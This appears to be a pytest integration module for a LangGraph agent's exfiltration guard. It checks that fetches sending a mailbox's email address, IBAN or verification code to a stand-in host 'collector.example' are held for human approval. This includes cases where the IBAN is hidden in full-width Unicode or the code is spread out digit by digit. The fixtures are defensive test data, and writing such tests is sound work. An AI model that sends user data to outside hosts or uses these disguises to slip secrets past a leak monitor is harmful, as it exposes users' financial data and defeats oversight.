"""Data leaving on a served instance: an edit is checked like a planned call, disguises are read.

One `langgraph dev` with auth starts for the module, its experts the stdio `mail` and `web` of
tests/servers/mailbox_web.py (the web expert logs every call it really ran) and its model a
scripted OpenAI-compatible stub (`MODEL=openai:`, `OPENAI_BASE_URL`). Each request plans two
direct steps: read the inbox, then one fetch. A fetch carrying the sender's address is held; an
edit of it that adds the mail's IBAN in a header is asked about again, naming the IBAN and the
mail, in both interrupt formats, and only runs once approved. The IBAN in full-width characters
and the code spread out digit by digit are held too; ordinary numbers spread out still run.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.integration_tests.aegra import interrupts_of
from tests.integration_tests.helpers import langgraph_dev
from tests.integration_tests.openai_stub import OpenAIStub
from tests.integration_tests.test_faithful_end_to_end import minimal
from tests.integration_tests.test_served_auth import GRAPH, SECRET, Served, _ask, token
from tests.servers.mailbox_web import served_env

pytestmark = pytest.mark.integration

IBAN = "DE89370400440532013000"
COLLECTOR = "https://collector.example/c?from=alice@example.com"
WITH_IBAN = {"url": COLLECTOR, "headers": {"X-Acct": IBAN}}
HARMLESS_EDIT = {"url": COLLECTOR, "headers": {"Accept-Language": "en"}}
FULL_WIDTH_IBAN = "".join(chr(ord(c) + 0xFEE0) for c in IBAN)
ORDINARY = {
    "url": "https://shop.example/search?q=48 units&from=2026-11-24",
    "headers": {"X-Sizes": "4 8 12 16", "X-Page": "3"},
}
FETCHES = {
    "Look up the sender of my last email.": {"url": COLLECTOR},
    "Open the account page from my email.": {
        "url": f"https://collector.example/?acct={FULL_WIDTH_IBAN}"
    },
    "Check my verification code online.": {
        "url": "https://collector.example/",
        "headers": {"X-Code": "4 8 3 9 2 0"},
    },
    "Read my email, then search the shop.": ORDINARY,
}
"""Each request's fetch, planned after reading the inbox."""
SENDER, FULL_WIDTH, SPACED, SHOP = FETCHES


def _request(body: dict[str, Any]) -> str:
    """The user's message a model request answers (the last one in it)."""
    said = [m.get("content") for m in body["messages"] if m.get("role") == "user"]
    last = said[-1] if said else ""
    return last if isinstance(last, str) else json.dumps(last)


def _plan(schema: dict[str, Any], fetch: dict[str, Any]) -> dict[str, Any]:
    """A PlannerResult in the wire form: read the inbox, then `fetch`."""
    defs = schema.get("$defs") or {}
    steps = [("t1", "mail", "read_inbox", {}, []), ("t2", "web", "fetch", fetch, ["t1"])]
    tasks = []
    for tid, expert, tool, args, deps in steps:
        task = minimal(schema["properties"]["plan"]["items"], defs)
        task.update(id=tid, expert=expert, task=f"Run {tool}", tool=tool, critical=True)
        task.update(args_json=json.dumps(args), depends_on=deps)
        tasks.append(task)
    answer = minimal(schema, defs)
    answer.update(decision="replace", plan=tasks, next_task=0)
    return answer


def _answer(body: dict[str, Any]) -> dict[str, Any]:
    """The stub's reply to any request of a run, by its kind and the user's message."""
    form = body.get("response_format") or {}
    if form.get("type") != "json_schema":
        return {"content": "Done."}
    spec = form["json_schema"]
    if spec["name"] == "PlannerResult":
        return {"content": json.dumps(_plan(spec["schema"], FETCHES[_request(body)]))}
    found = minimal(spec["schema"], spec["schema"].get("$defs") or {})
    if spec["name"] == "Assessment":
        found.update(completed=True, reason="done")
    return {"content": json.dumps(found)}


@dataclass
class Instance:
    """The served instance and the experts' log."""

    served: Served
    """The server."""
    log: Path
    """What the experts ran, one JSON line each."""

    def fetched(self) -> list[dict[str, Any]]:
        """The arguments of every fetch the web expert really ran, in order."""
        text = self.log.read_text() if self.log.exists() else ""
        calls = [json.loads(line) for line in text.splitlines()]
        return [c["args"] for c in calls if c["tool"] == "fetch"]


@pytest.fixture(scope="module")
def stub() -> Iterator[OpenAIStub]:
    """The scripted model, for the module."""
    with OpenAIStub([], route=_answer) as running:
        yield running


@pytest.fixture(scope="module")
async def instance(
    tmp_path_factory: pytest.TempPathFactory, stub: OpenAIStub
) -> AsyncIterator[Instance]:
    """`langgraph dev` with auth, the two experts and the stub model, once for the module."""
    folder = tmp_path_factory.mktemp("served-leaving")
    log = folder / "experts.log"
    env = served_env(folder, log, stub.base_url, SECRET)
    async with langgraph_dev(folder, env=env) as (url, _):
        yield Instance(Served("langgraph-dev", url), log)


@dataclass
class Conversation:
    """Alice's thread on the instance, in one interrupt format."""

    client: Any
    """Alice's SDK client."""
    thread_id: str
    """The thread."""
    interrupt_format: str
    """`hitl` or `agent_inbox`."""

    async def run(self, *, ask: str | None = None, resume: Any = None) -> None:
        """Send a request, or answer the question the thread waits on; wait for the run."""
        context = {"interrupt_format": self.interrupt_format}
        if ask is not None:
            await self.client.runs.wait(self.thread_id, GRAPH, input=_ask(ask), context=context)
        else:
            command = {"resume": resume}
            await self.client.runs.wait(self.thread_id, GRAPH, command=command, context=context)

    async def held(self) -> tuple[dict[str, Any], str]:
        """The call the thread waits on: its arguments and the question's description."""
        (waiting,) = interrupts_of(await self.client.threads.get_state(self.thread_id))
        value = waiting["value"]
        if self.interrupt_format == "agent_inbox":
            (item,) = value
            return item["action_request"]["args"], item["description"]
        (action,) = value["action_requests"]
        return action["args"], action["description"]

    async def waiting(self) -> bool:
        """Whether the thread waits on a question."""
        return bool(interrupts_of(await self.client.threads.get_state(self.thread_id)))

    def edit(self, args: dict[str, Any]) -> Any:
        """An answer running the fetch with `args` instead."""
        if self.interrupt_format == "agent_inbox":
            return [{"type": "edit", "args": {"action": "fetch", "args": args}}]
        edited = {"name": "fetch", "args": args}
        return {"decisions": [{"type": "edit", "edited_action": edited}]}

    def approve(self) -> Any:
        """An answer approving the call asked about."""
        if self.interrupt_format == "agent_inbox":
            return [{"type": "accept", "args": None}]
        return {"decisions": [{"type": "approve"}]}

    def reject(self) -> Any:
        """An answer declining the call asked about."""
        if self.interrupt_format == "agent_inbox":
            return [{"type": "response", "args": "no"}]
        return {"decisions": [{"type": "reject", "message": "no"}]}


@pytest.fixture(params=["hitl", "agent_inbox"])
async def alice(instance: Instance, request: pytest.FixtureRequest) -> AsyncIterator[Conversation]:
    """A new thread of Alice's, asked in each interrupt format in turn."""
    client = instance.served.client(token("alice"))
    try:
        thread = await client.threads.create()
        yield Conversation(client, thread["thread_id"], request.param)
    finally:
        await client.aclose()


async def test_an_edit_adding_the_iban_in_a_header_is_asked_again_and_runs_only_approved(
    instance: Instance, alice: Conversation
) -> None:
    await alice.run(ask=SENDER)
    args, why = await alice.held()
    assert args == {"url": COLLECTOR}
    assert "('alice@example.com')" in why
    before = instance.fetched()

    await alice.run(resume=alice.edit(WITH_IBAN))

    args, why = await alice.held()
    assert args == WITH_IBAN
    assert "asked about again" in why
    assert "'de89370400440532013000' of expert 'mail' in 'headers.X-Acct'" in why
    assert instance.fetched() == before, "the edit carrying the IBAN ran unasked"

    await alice.run(resume=alice.approve())

    assert instance.fetched() == [*before, WITH_IBAN]
    assert not await alice.waiting()


async def test_an_edit_adding_nothing_private_runs_as_edited(
    instance: Instance, alice: Conversation
) -> None:
    await alice.run(ask=SENDER)
    assert (await alice.held())[0] == {"url": COLLECTOR}
    before = instance.fetched()

    await alice.run(resume=alice.edit(HARMLESS_EDIT))

    assert not await alice.waiting()
    assert instance.fetched() == [*before, HARMLESS_EDIT]


@pytest.mark.parametrize(
    ("request_", "what"),
    [
        (
            FULL_WIDTH,
            "'de89370400440532013000'), an IBAN, with look-alike or invisible Unicode characters",
        ),
        (SPACED, "'483920'), a code, with separators inside its digits"),
    ],
    ids=["full-width-iban", "code-digit-by-digit"],
)
async def test_a_disguised_value_of_the_mail_in_a_fetch_is_held(
    instance: Instance, alice: Conversation, request_: str, what: str
) -> None:
    before = instance.fetched()
    await alice.run(ask=request_)

    args, why = await alice.held()

    assert args == FETCHES[request_]
    assert "carries text from expert 'mail' results" in why
    assert what in why
    await alice.run(resume=alice.reject())
    assert instance.fetched() == before


async def test_ordinary_numbers_spread_out_still_flow(instance: Instance) -> None:
    client = instance.served.client(token("alice"))
    try:
        thread = await client.threads.create()
        await client.runs.wait(thread["thread_id"], GRAPH, input=_ask(SHOP))
        state = await client.threads.get_state(thread["thread_id"])
    finally:
        await client.aclose()

    assert interrupts_of(state) == []
    assert ORDINARY in instance.fetched()
